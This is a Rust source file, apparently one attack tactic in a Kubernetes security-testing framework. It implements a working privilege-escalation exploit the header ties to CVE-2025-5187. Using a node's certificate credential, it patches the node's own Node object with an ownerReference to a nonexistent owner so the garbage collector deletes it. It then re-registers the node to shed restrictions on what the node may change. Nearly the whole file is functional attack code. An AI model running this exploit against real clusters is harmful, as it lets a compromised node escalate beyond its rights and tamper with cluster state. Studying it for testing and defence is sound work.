//! A node has itself deleted, so that it can register anew with what it may not change
//! (CVE-2025-5187): it names an owner that does not exist, and the garbage collector does the rest.

use super::Tactic;
use super::spend::{Shown, for_ask, request};
use crate::field::{Field, Probe};
use crate::holdings::{Held, Secret};
use crate::notes::Notes;
use crate::speak::Answer;
use crate::target::{Ask, Speaks, Target};
use async_trait::async_trait;
use ravelin_oracle::{Attempt, GainKind, Property};
use serde_json::{Value, json};
use std::time::Duration;

/// How often it looks whether its node is gone, and the pause between.
const LOOKS: u32 = 10;
const PAUSE: Duration = Duration::from_millis(300);

/// Naming an owner that does not exist.
pub struct DisownNode;

#[async_trait(?Send)]
impl Tactic for DisownNode {
    fn name(&self) -> &'static str {
        "delete-its-own-node"
    }

    async fn run(&self, field: &Field, target: &Target, probe: Probe<'_>) -> Attempt {
        let notes = Notes::new(field);
        probe.await;
        let certificate = |held: &Held| matches!(held.secret, Secret::Certificate(_));
        let credential = field.credentials().into_iter().find(certificate);
        if let (Some(node), Some(held)) = (&field.holdings().node, credential) {
            Disowning { notes: &notes, target, held }.run(node).await;
        }
        notes.finish()
    }
}

struct Disowning<'a> {
    notes: &'a Notes<'a>,
    target: &'a Target,
    held: Held,
}

impl Disowning<'_> {
    async fn ask(&self, wanted: &Ask) -> Option<Answer> {
        let asked = (for_ask(wanted, self.target.apiserver), Shown::of(&self.held.secret));
        request(self.notes, self.target.apiserver, Speaks::Https, asked).await.ok()
    }

    async fn run(&self, node: &str) {
        let (path, flow) = (format!("/api/v1/nodes/{node}"), self.notes.field().flow(self.target.apiserver));
        let read = Ask::get(&path, "its own node");
        let before: Option<Value> =
            self.ask(&read).await.and_then(|answer| serde_json::from_slice(&answer.body).ok());
        let Some(before) = before.filter(|found| found["metadata"]["name"] == node) else {
            return self.notes.tell(format!("{flow}: its own node could not be read"));
        };
        let owner = json!({
            "apiVersion": "v1", "kind": "Node", "name": "nobody",
            "uid": "00000000-0000-4000-8000-000000000000",
        });
        let disown = json!({"metadata": {"ownerReferences": [owner]}});
        match self.ask(&Ask::patch(&path, &disown, "the owner of its own node")).await {
            Some(answer) if answer.granted() => {}
            Some(answer) => {
                return self.notes.refused_by_answer(&flow, &answer, &[Property::AccessControlled]);
            }
            None => return self.notes.tell(format!("{flow}: no answer")),
        }
        for _ in 0..LOOKS {
            tokio::time::sleep(PAUSE).await;
            let gone = self.ask(&read).await.is_some_and(|answer| is_another(&answer, &before));
            if gone {
                let text = "had its own Node object deleted, which a node may not do";
                self.notes.gained(&flow, GainKind::BeyondRights, text);
                return self.come_back(before).await;
            }
        }
        self.notes.tell(format!("{flow}: the owner was taken, and its node is still there"));
        let owned = json!({"metadata": {"ownerReferences": []}});
        let _ = self.ask(&Ask::patch(&path, &owned, "the owner of its own node")).await;
    }

    /// Registers anew, so that the rest of the cluster finds the node where it was.
    async fn come_back(&self, mut node: Value) {
        if let Some(metadata) = node["metadata"].as_object_mut() {
            metadata.retain(|name, _| matches!(name.as_str(), "name" | "labels"));
        }
        let again = Ask::post("/api/v1/nodes", Some(&node), "its own node");
        // Its kubelet may have been faster.
        let _ = self.ask(&again).await;
    }
}

/// Is the object gone, or another one by now?
fn is_another(answer: &Answer, before: &Value) -> bool {
    let now: Option<Value> = serde_json::from_slice(&answer.body).ok();
    answer.status == 404 || now.is_some_and(|now| now["metadata"]["uid"] != before["metadata"]["uid"])
}
